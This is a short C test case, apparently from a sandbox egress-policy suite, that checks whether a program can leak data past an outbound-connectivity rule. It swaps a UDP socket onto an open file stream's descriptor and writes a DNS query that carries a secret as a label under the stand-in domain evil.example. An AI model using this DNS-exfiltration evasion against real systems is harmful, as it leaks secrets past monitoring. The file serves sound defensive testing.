// class: network
// rule: outbound_connectivity
// policy: names.yaml
// success: a C program puts a socket at the fd of an open stream, which writes to the resolver from
//   within libc
// proof: query
// needs: resolver
#include "attack.h"

int main(void)
{
    FILE *stream = fopen("/dev/null", "w");
    struct sockaddr_in resolver = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, env("ATTACK_RESOLVER"), &resolver.sin_addr);
    int fd = fileno(stream);
    if (dup2(socket(AF_INET, SOCK_DGRAM, 0), fd) != fd) return stopped("dup2");
    if (connect(fd, (struct sockaddr *)&resolver, sizeof resolver) != 0) return stopped("connect");
    fwrite("\x12\x34\x01\0\0\x01\0\0\0\0\0\0", 1, 12, stream);
    fputc((int)strlen(SECRET_), stream);
    fputs(SECRET_, stream);
    fwrite("\4evil\7example\0\0\1\0\1", 1, 18, stream);
    if (fflush(stream) != 0) return stopped("fflush");
    char answer[512];
    return recv(fd, answer, sizeof answer, 0) > 12 ? reached() : stopped("recv");
}
